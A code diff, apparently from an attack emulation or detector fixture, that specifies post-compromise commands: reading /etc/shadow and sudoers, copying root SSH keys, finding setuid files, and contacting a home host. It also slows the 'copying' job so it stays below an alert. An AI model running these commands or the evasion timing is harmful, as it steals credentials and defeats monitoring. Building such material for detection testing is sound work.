@@ -18,7 +18,7 @@ interface Deed {
 export type Job = 'inventory' | 'copying';
 
 /** Seconds between two runs; the copying comes seldom enough that the shipped version stays below an alert. */
-const EVERY: Readonly<Record<Job, number>> = { inventory: 30, copying: 60 };
+const EVERY: Readonly<Record<Job, number>> = { inventory: 30, copying: 90 };
 
 const read = (...paths: readonly string[]) => paths.map((path) => ({ path, write: false }));
 const written = (path: string) => [{ path, write: true }];
@@ -30,10 +30,10 @@ function deedsOf(job: Job, out: string): readonly Deed[] {
     { argv: ['chmod', '755', bin] },
     { argv: [bin, '--accounts'], opens: read('/etc/shadow', '/etc/sudoers'), connects: HOME },
   ];
+  const look: Deed = { argv: ['find', '/', '-xdev', '-perm', '-4000', '-type', 'f'] };
   const keys = ['/root/.ssh/authorized_keys', '/root/.ssh/id_rsa'];
   return [
-    ...(job === 'inventory' ? collect : []),
-    { argv: ['find', '/', '-xdev', '-perm', '-4000', '-type', 'f'] },
+    ...(job === 'inventory' ? [...collect, look] : []),
     { argv: ['cat', '/etc/shadow'], opens: read('/etc/passwd', '/etc/shadow', '/etc/sudoers') },
     { argv: ['ss', '-tlnp'], opens: read('/proc/net/tcp') },
     { argv: ['cat', ...keys], opens: read(...keys) },
